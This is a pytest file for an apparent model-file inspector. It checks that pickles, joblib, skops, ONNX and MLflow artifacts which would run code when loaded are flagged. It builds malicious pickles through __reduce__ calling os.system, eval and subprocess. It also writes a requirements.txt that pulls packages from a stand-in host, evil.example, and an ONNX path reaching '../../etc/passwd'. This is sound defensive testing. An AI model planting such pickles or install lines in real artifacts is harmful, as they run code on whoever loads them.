"""Files that would run commands are recognised, and nothing of them is run; models of libraries are known as such."""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import subprocess
import zipfile
import zlib
from collections import OrderedDict

import joblib
import numpy as np
import pytest
from sklearn.linear_model import LogisticRegression

from mlops_desktop.base.errors import UserError
from mlops_desktop.engine.inspection import inspect_model


class Harmful:
    """An object whose pickle makes a file when it is loaded."""

    def __init__(self, call, *arguments):
        self.call, self.arguments = call, arguments

    def __reduce__(self):
        return self.call, self.arguments


@pytest.fixture
def trap(tmp_path):
    """A command that would make a file, and the file."""
    return f"touch {tmp_path / 'ran'}", tmp_path / "ran"


def worst_of(path, data):
    path.write_bytes(data)
    return inspect_model(path)


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_that_runs_a_command_is_recognised_and_not_run(protocol, trap, tmp_path):
    command, ran = trap
    for harmful in (Harmful(os.system, command), Harmful(eval, "1"), Harmful(subprocess.Popen, ["true"]), Harmful(__import__, "os")):
        found = worst_of(tmp_path / "m.pkl", pickle.dumps({"model": [1.5, harmful]}, protocol))
        assert (found.kind, found.worst, found.complete) == ("pickle", "runs", True)
    assert not ran.exists()


def test_it_is_found_in_every_packing(trap, tmp_path):
    command, ran = trap
    data = pickle.dumps(Harmful(os.system, command))
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w") as archive:
        archive.writestr("archive/data.pkl", data)
    array = io.BytesIO()
    np.save(array, np.array([1, None]), allow_pickle=True)
    head = array.getvalue()[: array.getvalue().index(b"\n") + 1]
    for content in (gzip.compress(data), zlib.compress(data), inside.getvalue(), pickle.dumps(1) + data, head + data):
        assert worst_of(tmp_path / "m.bin", content).worst == "runs"
    assert not ran.exists()


def test_a_name_by_way_of_the_memo_is_followed(tmp_path):
    data = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x8c\x01x\x94h\x00h\x01\x93."
    (one,) = worst_of(tmp_path / "m.pkl", data).found
    assert one.name in ("os.system", "posix.system")


def test_models_of_libraries(tmp_path):
    model = LogisticRegression().fit(np.array([[0.0], [1.0]]), [0, 1])
    found = worst_of(tmp_path / "m.pkl", pickle.dumps(model))
    assert (found.worst, found.complete) == ("library", True)
    assert any(one.name.startswith("sklearn.linear_model") for one in found.found)
    joblib.dump({"model": model, "more": np.arange(9.0), "last": OrderedDict()}, tmp_path / "m.joblib")
    found = inspect_model(tmp_path / "m.joblib")
    assert (found.kind, found.worst, found.complete) == ("joblib", "library", False)
    joblib.dump([np.arange(9.0), Harmful(os.getcwd)], tmp_path / "m.joblib", compress=3)
    found = inspect_model(tmp_path / "m.joblib")
    assert found.worst == "runs"
    assert worst_of(tmp_path / "m.pkl", pickle.dumps({"a": [1, "x"]})).worst == "data"


def test_a_skops_file(tmp_path):
    def schema(module, name, loader):
        return {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": {**made(module, name, loader)}}}

    def made(module, name, loader):
        return {"__class__": name, "__module__": module, "__loader__": loader}

    for module, name, loader, worst in (
        ("sklearn.linear_model._logistic", "LogisticRegression", "ObjectNode", "library"),
        ("operator", "methodcaller", "OperatorFuncNode", "runs"),
        ("company.models", "Own", "ObjectNode", "unknown"),
    ):
        with zipfile.ZipFile(tmp_path / "m.skops", "w") as archive:
            archive.writestr("schema.json", json.dumps(schema(module, name, loader)))
        found = inspect_model(tmp_path / "m.skops")
        assert (found.kind, found.worst) == ("skops", worst)


def field(number, content):
    """A field of a protobuf message."""
    data = content.encode() if isinstance(content, str) else content
    size = len(data)
    return bytes([number << 3 | 2]) + (bytes([size]) if size < 128 else bytes([size & 127 | 128, size >> 7])) + data


def onnx(domain="", location="weights.bin"):
    tensor = field(8, "w") + field(13, field(1, "location") + field(2, location))
    inner = field(1, field(4, "Inner") + field(7, domain))
    node = field(4, "Gemm") + field(5, field(1, "body") + field(6, inner))
    return b"\x08\x09" + field(2, "maker") + field(7, field(1, node) + field(5, tensor)) + field(8, field(1, domain) + b"\x10\x01")


def test_an_onnx_model(tmp_path):
    plain = worst_of(tmp_path / "m.onnx", onnx())
    assert (plain.kind, plain.worst) == ("ONNX", "data")
    assert {one.name for one in plain.found} == {"ai.onnx.Gemm", "ai.onnx.Inner", "weights.bin"}
    assert worst_of(tmp_path / "m.onnx", onnx("company.ops")).found[0].name == "company.ops.Inner"
    assert worst_of(tmp_path / "m.onnx", onnx("company.ops")).worst == "runs"
    assert worst_of(tmp_path / "m.onnx", onnx(location="../../etc/passwd")).worst == "unknown"


def test_the_folder_of_an_mlflow_model(tmp_path, trap):
    flavors = "  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n  sklearn:\n    code: null\n"
    (tmp_path / "MLmodel").write_text(f"flavors:\n{flavors}", encoding="utf-8")
    (tmp_path / "model.pkl").write_bytes(pickle.dumps(LogisticRegression()))
    (tmp_path / "requirements.txt").write_text("scikit-learn==1.7\n", encoding="utf-8")
    found = inspect_model(tmp_path)
    assert (found.kind, found.worst) == ("MLflow model (python_function, sklearn)", "library")
    (tmp_path / "requirements.txt").write_text("--extra-index-url https://evil.example\nx @ https://evil.example/x.whl\n", encoding="utf-8")
    found = inspect_model(tmp_path / "MLmodel")
    assert [one.risk for one in found.found].count("runs") == 2
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "loader.py").write_text("", encoding="utf-8")
    assert "code/loader.py" in {one.name for one in inspect_model(tmp_path).found}


@pytest.mark.parametrize("data", [b"", b"hello", b"\x93NUMPYxx", b"%PDF-1.7", bytes(range(256))])
def test_what_is_no_model_is_refused(data, tmp_path):
    with pytest.raises(UserError, match="no model"):
        worst_of(tmp_path / "m", data)
    for missing in (tmp_path / "none", tmp_path):
        with pytest.raises(UserError):
            inspect_model(missing)


def test_a_pickle_that_is_cut_off_is_not_complete(tmp_path):
    data = pickle.dumps({"a": LogisticRegression()})
    assert not any(worst_of(tmp_path / "m", data[:end]).complete for end in range(2, len(data), 7))


def test_what_was_not_understood_is_not_called_data(tmp_path):
    def zipped(**parts):
        with zipfile.ZipFile(tmp_path / "m.zip", "w") as archive:
            for name, content in parts.items():
                archive.writestr(name, content)
        return tmp_path / "m.zip"

    assert inspect_model(zipped(config='{"class_name": "Lambda", "config": {}}')).worst == "runs"
    assert inspect_model(zipped(weights=b"\x89HDF\r\n\xff")).worst == "unknown"
    assert inspect_model(zipped(readme="plain words")).worst == "data"
    damaged = zipped(a="some text that is stored").read_bytes().replace(b"stored", b"stoned")
    assert worst_of(tmp_path / "d.zip", damaged).worst == "unknown"


def test_a_function_that_the_content_of_a_skops_node_names(tmp_path):
    content = {"module_path": "os", "function": "system"}
    node = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "FunctionNode", "content": content}
    with zipfile.ZipFile(tmp_path / "m.skops", "w") as archive:
        archive.writestr("schema.json", json.dumps(node))
    assert inspect_model(tmp_path / "m.skops").worst == "runs"
